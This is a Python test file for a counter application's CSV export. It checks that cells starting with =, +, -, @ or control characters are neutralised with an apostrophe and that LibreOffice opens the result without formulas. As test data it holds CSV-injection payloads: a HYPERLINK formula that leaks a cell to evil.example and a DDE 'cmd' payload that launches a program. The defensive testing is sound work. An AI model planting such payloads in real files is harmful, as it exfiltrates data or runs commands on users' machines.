"""CSV injection: cells of the exchange CSV that start with = + - @ (tab, CR) are written as text.

The CSV is converted by LibreOffice headless to xlsx and read back with openpyxl: no cell is a
formula, and the import of the app's own file gets the original text back."""

from __future__ import annotations

import csv
import datetime as dt
import subprocess

import pytest
from openpyxl import load_workbook

from counter_app.infra import clock
from counter_app.reporting import csv_safety, exchange
from counter_app.tracking import stages
from tests.factories import make_accepted_application, make_customer
from tests.test_export_libreoffice import soffice

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
EVIL_HANDLER = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize("value", ["=1+1", "+86 138", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_neutralise_and_restore(value):
    written = csv_safety.neutralise(value)
    assert written.startswith("'") and csv_safety.restore(written) == value


@pytest.mark.parametrize("value", ["张三", "", "95598", "'quoted", "a=b"])
def test_plain_cells_unchanged(value):
    assert csv_safety.neutralise(value) == value and csv_safety.restore(value) == value


def test_exchange_csv_opens_in_libreoffice_without_formulas(db, actors, tmp_path):
    clock.freeze(dt.datetime(2026, 11, 24, 10, 0))
    try:
        clerk = actors["clerk1"]
        with db.write() as s:
            app = make_accepted_application(
                s, make_customer(s, EVIL_NAME, "91350100M000100Y43", "organisation"), window_id=clerk.window_id,
                clerk_id=clerk.user_id, accepted_at=dt.datetime(2026, 11, 23, 9, 0), business_type="lv_biz_new")
            app.address_detail = "@SUM(1+1)*cmd|' /C calc'!A0"
            app_id = app.id
        stages.advance(db, actors["back1"], app_id, version=None, handler=EVIL_HANDLER,
                       at=dt.datetime(2026, 11, 24, 9, 0))
        out = tmp_path / "apps.csv"
        exchange.export(db, actors["super1"], out)
    finally:
        clock.freeze(None)
    rows = list(csv.DictReader(out.read_bytes().decode("utf-8-sig").splitlines()))
    assert rows[0]["customer_name"] == "'" + EVIL_NAME
    assert rows[0]["current_handler"] == "'" + EVIL_HANDLER

    profile = tmp_path / "lo-profile"
    proc = subprocess.run(
        [soffice(), "--headless", "--norestore", f"-env:UserInstallation=file://{profile}",
         "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", str(tmp_path), str(out)],
        capture_output=True, text=True, timeout=240)
    assert proc.returncode == 0, proc.stderr
    book = load_workbook(tmp_path / "apps.xlsx")
    cells = [c for row in book.active.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells}
    # shown as the text it is, behind the apostrophe that keeps it from running
    assert "'" + EVIL_NAME in texts and "'" + EVIL_HANDLER in texts
